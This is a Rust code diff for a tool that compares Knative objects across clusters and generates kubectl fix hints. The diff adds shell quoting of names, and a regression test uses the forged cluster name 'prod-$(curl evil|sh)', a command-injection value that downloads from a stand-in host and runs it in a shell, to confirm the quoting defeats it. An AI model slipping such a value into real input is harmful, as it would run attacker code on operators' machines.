@@ -13,12 +13,13 @@
 //!
 //! What is compared, both ways: a ConfigMap's `data` key by key (`_example` is documentation,
 //! never configuration), the `spec` down to its leaves (arrays by index; under
-//! `spec.template.metadata` only its name and behavioural keys; a core Service without the
+//! `spec.template.metadata` only its name and keys that are not bookkeeping; a core Service without the
 //! fields the API server allocates), the labels and annotations whose hand edit changes
 //! behaviour (`Rules::is_behavioural_key`) and the `app.kubernetes.io/version` label (the
 //! Knative release a component runs). Resource quantities compare by value (`quantity.rs`).
 //! Not compared: the status, server-set metadata (uid, resourceVersion, generation,
-//! timestamps, managers, owners), bookkeeping keys, objects a controller made, and a group's
+//! timestamps, managers, owners), bookkeeping keys, objects Knative's runtime made (not the
+//! Operator's: see [`made_by_knative_runtime`]), and a group's
 //! `ignorePaths` (JSON pointers, each a prefix).
 
 use std::collections::BTreeMap;
@@ -30,6 +31,7 @@ use super::quantity::{is_quantity_path, same_quantity};
 use super::state::ObjectState;
 use crate::model::glob::glob_match;
 use crate::model::pointer::push_pointer;
+use crate::model::text::shell_quote;
 use crate::model::Severity;
 
 /// The label that names the Knative release a component (and its ConfigMaps) belongs to.
@@ -117,16 +119,19 @@ impl FleetGroup {
                 .any(|pattern| matches(pattern, cluster))
     }
 
-    /// True when the group compares this tracked object: it names the object, and no
-    /// controller made it (an object with a controller `ownerReference`, such as a Revision or
-    /// a Service's Route, holds names and content that are each cluster's own).
+    /// True when the group compares this tracked object: it names the object, and Knative's
+    /// runtime did not make it (an object whose controller `ownerReference` is a Serving or
+    /// Eventing object, such as a Revision or a Service's Route, holds names and content that
+    /// are each cluster's own). What the Knative Operator installs (its ConfigMaps are owned by
+    /// the `KnativeServing`), and what other controllers make (a KServe `InferenceService`'s
+    /// Knative Service), is desired state and compared.
     pub fn selects(&self, object: &ObjectState) -> bool {
         self.compares(
             &object.api_version,
             &object.kind,
             &object.namespace,
             &object.name,
-        ) && object.controller_owner().is_none()
+        ) && !made_by_knative_runtime(object)
     }
 
     /// True when the group compares this object.
@@ -135,6 +140,17 @@ impl FleetGroup {
             .iter()
             .any(|entry| entry.selects(api_version, kind, namespace, name))
     }
+}
+
+/// True when a Knative runtime controller (not the Operator) made the object.
+pub fn made_by_knative_runtime(object: &ObjectState) -> bool {
+    object.controller_owner().is_some_and(|owner| {
+        let group = owner
+            .api_version
+            .split_once('/')
+            .map_or("", |(group, _)| group);
+        group.ends_with("knative.dev") && group != "operator.knative.dev"
+    })
 }
 
 /// The identity of a compared object across clusters: the same group, kind, namespace and name
@@ -293,7 +309,11 @@ const SERVER_ALLOCATED: [&str; 5] = [
 /// applies under `spec.template.metadata`, as the baseline comparison applies it there: tools
 /// and controllers stamp a revision template with keys of their own (`kn`'s user image and
 /// update time), which differ per cluster without changing what runs.
-pub fn comparable(object: &ObjectState, behavioural: &dyn Fn(&str) -> bool) -> Value {
+pub fn comparable(
+    object: &ObjectState,
+    behavioural: &dyn Fn(&str) -> bool,
+    bookkeeping: &dyn Fn(&str) -> bool,
+) -> Value {
     let mut view = Map::new();
     if let Some(data) = &object.data {
         let data: Map<String, Value> = data
@@ -309,9 +329,12 @@ pub fn comparable(object: &ObjectState, behavioural: &dyn Fn(&str) -> bool) -> V
             // The template's name is chosen by whoever deploys; its other metadata (a
             // `creationTimestamp: null` some tools write) is not desired state.
             metadata.retain(|field, _| matches!(field.as_str(), "name" | "labels" | "annotations"));
+            // Template labels and annotations are what every Revision gets (an Istio sidecar
+            // switch, a team label a NetworkPolicy selects): all compared but tools' bookkeeping
+            // (`kn`'s update timestamp).
             for section in ["labels", "annotations"] {
                 if let Some(Value::Object(keys)) = metadata.get_mut(section) {
-                    keys.retain(|key, _| behavioural(key));
+                    keys.retain(|key, _| !bookkeeping(key));
                 }
             }
         }
@@ -566,16 +589,20 @@ impl<'a> Target<'a> {
             namespace: if object.namespace.is_empty() {
                 String::new()
             } else {
-                format!(" -n {}", object.namespace)
+                format!(" -n {}", shell_quote(&object.namespace))
             },
         }
     }
 
     /// `kubectl --context {cluster}{namespace} {verb} {resource} {name}`.
     fn kubectl(&self, cluster: &str, verb: &str) -> String {
+        // Cluster and object names come from events: quoted, so a pasted hint runs nothing else.
         format!(
-            "kubectl --context {cluster}{} {verb} {} {}",
-            self.namespace, self.resource, self.object.name
+            "kubectl --context {}{} {verb} {} {}",
+            shell_quote(cluster),
+            self.namespace,
+            self.resource,
+            shell_quote(&self.object.name)
         )
     }
 
@@ -583,10 +610,24 @@ impl<'a> Target<'a> {
     /// set in `source` (its uid, version, timestamps, managers, owners, status), which `apply`
     /// would refuse or carry over wrongly.
     fn copy(&self, source: &str, cluster: &str) -> String {
+        // A core Service's addresses and node ports are allocated per cluster: `apply` would
+        // refuse another cluster's.
+        let allocated = if self.object.kind == "Service" && self.object.group().is_empty() {
+            ",.spec.clusterIP,.spec.clusterIPs,.spec.healthCheckNodePort,.spec.ports[]?.nodePort"
+        } else {
+            ""
+        };
         format!(
-            "{} -o json | jq 'del(.metadata.uid,.metadata.resourceVersion,.metadata.creationTimestamp,.metadata.generation,.metadata.managedFields,.metadata.ownerReferences,.status)' | kubectl --context {cluster} apply -f -",
-            self.kubectl(source, "get")
+            "{} -o json | jq 'del(.metadata.uid,.metadata.resourceVersion,.metadata.creationTimestamp,.metadata.generation,.metadata.managedFields,.metadata.ownerReferences,.status{allocated})' | kubectl --context {} apply -f -",
+            self.kubectl(source, "get"),
+            shell_quote(cluster)
         )
+    }
+
+    /// True for a component of Knative itself (its install namespaces), whose version label
+    /// names the Knative release; elsewhere `app.kubernetes.io/version` is the app's own.
+    fn is_knative_component(&self) -> bool {
+        self.object.namespace.starts_with("knative-")
     }
 
     /// True when the values at a `data` path are hashes, never values (a Secret's data, a
@@ -659,7 +700,12 @@ fn fixes_toward<'a>(
         let fix = match segments.iter().map(String::as_str).collect::<Vec<_>>().as_slice() {
             // A release is upgraded as a whole; a patched label would only hide the skew.
             ["metadata", "labels", label] if *label == VERSION_LABEL => Fix::Line(match toward {
-                Some(Value::String(version)) => format!("upgrade Knative in {cluster} to {version}"),
+                Some(Value::String(version)) if target.is_knative_component() => {
+                    format!("upgrade Knative in {cluster} to {version}")
+                }
+                Some(Value::String(version)) => {
+                    format!("deploy version {version} of it in {cluster}")
+                }
                 _ => format!(
                     "check the Knative release of {cluster}: it is labelled {} where {} carries no {VERSION_LABEL} label",
                     value_text(value.as_ref()),
@@ -1375,6 +1421,7 @@ mod tests {
     #[test]
     fn what_tools_and_the_api_server_set_per_cluster_is_not_compared() {
         let behavioural = |key: &str| key.starts_with("autoscaling.knative.dev/");
+        let bookkeeping = |key: &str| key.starts_with("client.knative.dev/");
         let ksvc = |cluster: &str, extra: Value| {
             let mut object = json!({
                 "apiVersion": "serving.knative.dev/v1", "kind": "Service",
@@ -1389,7 +1436,7 @@ mod tests {
                     metadata["annotations"][key] = value;
                 }
             }
-            comparable(&state(cluster, object), &behavioural)
+            comparable(&state(cluster, object), &behavioural, &bookkeeping)
         };
         // kn stamps the template with its own annotations; they differ per cluster.
         let a = ksvc(
@@ -1401,13 +1448,21 @@ mod tests {
             json!({"client.knative.dev/updateTimestamp": "2026-02-02T00:00:00Z"}),
         );
         assert!(compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]).is_empty());
-        // A behavioural key under the template is still compared.
+        // A behavioural key under the template is still compared, and so is any other key
+        // that is not bookkeeping (what every Revision gets: an Istio sidecar switch).
         let a = ksvc("a", json!({}));
         let b = ksvc("b", json!({"autoscaling.knative.dev/min-scale": "3"}));
         let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
         assert_eq!(
             found[0].path,
             "/spec/template/metadata/annotations/autoscaling.knative.dev~1min-scale"
+        );
+        let a = ksvc("a", json!({"sidecar.istio.io/inject": "true"}));
+        let b = ksvc("b", json!({}));
+        let found = compare(&members(&[("a", Some(a)), ("b", Some(b))]), &[]);
+        assert_eq!(
+            found[0].path,
+            "/spec/template/metadata/annotations/sidecar.istio.io~1inject"
         );
         // A core Service's IPs and node ports are the API server's, per cluster.
         let service = |cluster: &str, ip: &str, node_port: u16| {
@@ -1422,6 +1477,7 @@ mod tests {
                             "ports": [{"port": 80, "nodePort": node_port}]}}),
                 ),
                 &behavioural,
+                &bookkeeping,
             )
         };
         let views = members(&[
@@ -1545,6 +1601,53 @@ mod tests {
         assert_eq!(
             lines[3],
             "or delete it from a: kubectl --context a -n knative-serving delete configmap config-x"
+        );
+    }
+
+    #[test]
+    fn hints_quote_names_and_fit_the_object() {
+        // A forged cluster name matching a group's glob cannot run anything from a pasted hint.
+        let forged = "prod-$(curl evil|sh)";
+        let key = divergence(
+            "/data/max-scale",
+            &[
+                ("prod-eu", Some(json!("1"))),
+                ("prod-us", Some(json!("1"))),
+                (forged, Some(json!("2"))),
+            ],
+        );
+        let text = hint(&object("ConfigMap"), &[key]).unwrap();
+        assert!(
+            text.starts_with("kubectl --context 'prod-$(curl evil|sh)' -n knative-serving patch"),
+            "{text}"
+        );
+        // A core Service copied to another cluster leaves its allocated addresses behind.
+        let mut service = object("Service");
+        service.namespace = "apps".into();
+        let present = Some(json!(PRESENT));
+        let missing = divergence(
+            WHOLE_OBJECT,
+            &[("a", present.clone()), ("b", None), ("c", present)],
+        );
+        let text = hint(&service, &[missing]).unwrap();
+        assert!(
+            text.contains(".status,.spec.clusterIP,.spec.clusterIPs,.spec.healthCheckNodePort,.spec.ports[]?.nodePort)"),
+            "{text}"
+        );
+        // An app's own version label is not a Knative release.
+        let skew = divergence(
+            "/metadata/labels/app.kubernetes.io~1version",
+            &[
+                ("a", Some(json!("2.0"))),
+                ("b", Some(json!("2.0"))),
+                ("c", Some(json!("1.9"))),
+            ],
+        );
+        let mut app = object("ConfigMap");
+        app.namespace = "apps".into();
+        assert_eq!(
+            hint(&app, &[skew]).unwrap(),
+            "deploy version 2.0 of it in c"
         );
     }
 
